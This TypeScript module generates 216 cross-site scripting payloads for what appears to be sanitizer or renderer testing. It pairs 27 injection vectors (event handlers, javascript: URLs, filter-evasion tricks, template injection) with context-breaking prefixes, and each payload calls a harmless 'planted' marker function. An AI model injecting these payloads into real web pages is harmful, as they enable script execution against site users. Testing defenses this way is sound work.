/** The function that a payload calls when a browser runs it. */
export const planted = 'planted'

const call = `${planted}()`

/** Texts that run a script if a page puts them into its HTML. */
const bases = [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate attributeName=x dur=1s onbegin=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<details open ontoggle=${call}>x</details>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<textarea autofocus onfocus=${call}></textarea>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<body onload=${call}>`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="java&#x09;script:${call}">x</a>`,
  `<math href="javascript:${call}">x</math>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<base href="javascript:${call}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<style onload=${call}>*{}</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<p style="background:url(javascript:${call})">x</p>`,
  `[x](javascript:${call})`,
  `{{constructor.constructor("${call}")()}}`,
]

/** Beginnings by which a payload leaves the place that it was put into. */
const exits = ['', '">', "'>", '</script>', '</textarea>', '--><!-- -->', '</title>', '</style>']

/** 216 payloads; the first 27 hold each base once, behind another exit each. */
export const payloads: readonly string[] = exits.flatMap((_, round) =>
  bases.map((base, index) => `${exits[(index + round) % exits.length]}${base}`),
)
